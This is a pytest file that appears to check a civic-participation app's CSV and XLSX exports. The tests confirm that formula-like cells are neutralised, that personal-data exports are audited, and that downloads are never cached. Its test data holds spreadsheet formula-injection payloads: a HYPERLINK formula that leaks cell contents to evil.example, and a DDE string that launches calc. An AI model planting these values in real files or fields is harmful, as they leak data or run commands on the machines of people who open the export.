"""Every export (consultations, Open Month, oversight, hearings; CSV and XLSX) goes through app.core.exports: a
cell a spreadsheet would run as a formula is written with a leading apostrophe, exports of personal data are
audited, and nothing is cached."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import openpyxl
import pytest
import sqlalchemy as sa

from app.accounts.models import Role
from app.core import exports
from app.core.audit import AuditEntry
from app.core.timeutil import local, utcnow
from app.consultations.models import ModerationState

# Each starts a cell that a spreadsheet program runs (or may run) as a formula.
DANGEROUS = ['=HYPERLINK("https://evil.example/?leak="&A1,"点我")', "+1+2", "-3+4", "@SUM(A1:A2)",
             "\tTAB", "\rCR"]


def csv_cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def xlsx_cells(data: bytes) -> list[list]:
    assert data[:2] == b"PK"
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"cell {cell.coordinate} is a formula: {cell.value!r}"
    # A carriage return is kept in the file as its XML escape, which openpyxl leaves as it is.
    return [[c.value.replace("_x000D_", "\r") if isinstance(c.value, str) else c.value for c in row]
            for row in sheet.iter_rows()]


def assert_neutralised(cells: list[list], texts=DANGEROUS) -> None:
    flat = [c for row in cells for c in row if isinstance(c, str)]
    for cell in flat:
        assert cell[:1] not in exports.FORMULA_PREFIXES, f"live formula cell: {cell!r}"
    for text in texts:
        assert "'" + text in flat, f"{text!r} missing or changed: {flat}"


def test_neutralise_covers_every_prefix_and_leaves_the_rest():
    for text in DANGEROUS:
        assert exports.neutralise(text) == "'" + text
    for value in ("建议增加停车位", "a=b", "", "'=already quoted", 3, -3, 1.5, None):
        assert exports.neutralise(value) == value


def test_the_sql_expression_follows_the_same_rule(db):
    if db.engine.dialect.name != "postgresql":
        pytest.skip("the COPY path is PostgreSQL's")
    for text in DANGEROUS + ["建议", "a=b", "'=quoted"]:
        got = db.session.scalar(sa.text(f"SELECT {exports.sql_neutralise('CAST(:t AS text)')}"), {"t": text})
        assert got == exports.neutralise(text)
    assert db.session.scalar(sa.text(f"SELECT {exports.sql_neutralise('CAST(:t AS text)')}"), {"t": ""}) is None


def _downloaded(client, url: str, fmt: str) -> list[list]:
    """The cells of a download, which must not be cached."""
    response = client.get(url)
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Type"] == exports.MIMETYPES[fmt]  # one charset (it said it twice)
    return csv_cells(response.data) if fmt == "csv" else xlsx_cells(response.data)


def _audited(db, action: str) -> list[AuditEntry]:
    return db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == action)).all()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_consultation_comments_export(fmt, client, auth, db, make_consultation, make_comment, make_user, staff):
    c = make_consultation()
    writer = make_user(name="=cmd|' /C calc'!A0")
    for text in DANGEROUS:
        make_comment(c, writer, text=text, state=ModerationState.PUBLISHED)
    db.session.commit()
    auth.login(staff)
    cells = _downloaded(client, f"/manage/consultations/{c.id}/export.{fmt}", fmt)
    assert cells[0][0] == "tracking_number" and len(cells) == 1 + len(DANGEROUS)
    assert_neutralised(cells)
    entry, = _audited(db, "consultation.export")
    assert entry.actor_id == staff.id and entry.object_id == str(c.id) and entry.details["format"] == fmt


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_open_month_participants_export(fmt, client, auth, db, make_user, department, staff):
    from app.core.timeutil import from_local
    from app.openday.models import Activity, ActivitySession, Registration, RegistrationState
    from datetime import date, time

    activity = Activity(department_id=department.id, title="开放日", signup_opens_at=from_local(date(2026, 7, 1)),
                        signup_closes_at=from_local(date(2026, 8, 31)), published_at=utcnow())
    session = ActivitySession(activity=activity, starts_at=from_local(date(2026, 8, 5), time(9)),
                              ends_at=from_local(date(2026, 8, 5), time(11)), capacity=len(DANGEROUS))
    db.session.add_all([activity, session])
    db.session.flush()
    for i, text in enumerate(DANGEROUS):
        person = make_user(name=text, email=f"p{i}@example.com")
        db.session.add(Registration(session_id=session.id, activity_id=activity.id, user_id=person.id,
                                    state=RegistrationState.CONFIRMED, starts_at=session.starts_at,
                                    ends_at=session.ends_at))
    db.session.commit()
    auth.login(staff)
    cells = _downloaded(client, f"/manage/openday/sessions/{session.id}/participants.{fmt}", fmt)
    assert len(cells) == 1 + len(DANGEROUS)
    assert_neutralised(cells)
    entry, = _audited(db, "openday.export")
    assert entry.actor_id == staff.id and entry.details["format"] == fmt


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_oversight_compliance_export(fmt, client, auth, db, make_department, make_consultation, admin):
    for i, text in enumerate(DANGEROUS):
        c = make_consultation(make_department(name=text, code=f"d{i}"))
        # Closed ten days ago, whatever the clock says: a period counts a consultation once it has closed.
        c.closes_at = utcnow() - timedelta(days=10)
        c.opens_at = c.closes_at - timedelta(days=30)
    db.session.commit()
    auth.login(admin)
    period = local(utcnow() - timedelta(days=10)).strftime("%Y-%m")
    cells = _downloaded(client, f"/manage/oversight/compliance.{fmt}?period={period}", fmt)
    assert cells[0][0] == "department" and len(cells) == 1 + len(DANGEROUS)
    assert_neutralised(cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hearing_applications_export(fmt, client, auth, db, make_user, make_department, department, staff):
    from app.hearings.models import Application, Meeting

    now = utcnow()
    meeting = Meeting(department_id=department.id, title="决策会议", starts_at=now + timedelta(days=30),
                      opens_at=now - timedelta(days=1), closes_at=now + timedelta(days=10), method="抽签",
                      published_at=now - timedelta(days=2))
    db.session.add(meeting)
    db.session.flush()
    for i, text in enumerate(DANGEROUS):
        person = make_user(name=text, email=f"h{i}@example.com")
        db.session.add(Application(meeting_id=meeting.id, user_id=person.id, statement="关心此事。",
                                   categories={"district": "xuhui"}))
    other = make_user(Role.STAFF, name="别的部门", email="other@example.com", department=make_department())
    db.session.commit()
    auth.login(other)
    assert client.get(f"/manage/hearings/{meeting.id}/applications.{fmt}").status_code in (403, 404)
    assert _audited(db, "hearing.export") == []
    auth.logout()
    auth.login(staff)
    cells = _downloaded(client, f"/manage/hearings/{meeting.id}/applications.{fmt}", fmt)
    assert len(cells) == 1 + len(DANGEROUS)
    assert_neutralised(cells)
    assert any("h0@example.com" in row for row in cells)
    entry, = _audited(db, "hearing.export")
    assert entry.actor_id == staff.id and entry.object_id == str(meeting.id) and entry.details["format"] == fmt
    assert client.get(f"/manage/hearings/{meeting.id}/applications.pdf").status_code == 404
